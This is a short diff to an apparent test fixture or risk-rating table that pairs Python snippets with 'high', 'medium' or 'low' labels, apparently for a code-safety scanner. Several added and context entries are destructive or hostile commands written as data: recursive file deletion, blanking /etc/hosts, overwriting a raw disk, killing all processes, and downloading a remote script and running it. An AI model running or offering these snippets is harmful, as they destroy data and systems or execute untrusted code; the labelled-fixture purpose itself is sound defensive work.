@@ -9,6 +9,12 @@ from workbench.facts.scope import Limits, Scope
 LIMITS = Limits(time_ms=60_000)
 
 SYSTEM = [
+    ("for p in Path('/srv/carts').rglob('*'): p.unlink()", "high"),
+    ("Path('old.txt').unlink()", "medium"),
+    ("Path('/etc/hosts').write_text('')", "high"),
+    ("open('/dev/sdb', 'wb').write(image)", "high"),
+    ("open('/dev/null', 'w').write('x')", "low"),
+    ("os.kill(-1, 9)", "high"),
     ("urllib.request.urlretrieve('https://example.com/t.py', 't.py')\nos.system('python t.py')", "high"),
     ("import math\nprint(math.sqrt(2))", "low"),
     ("print('os.system(\"rm -rf /\")')", "low"),
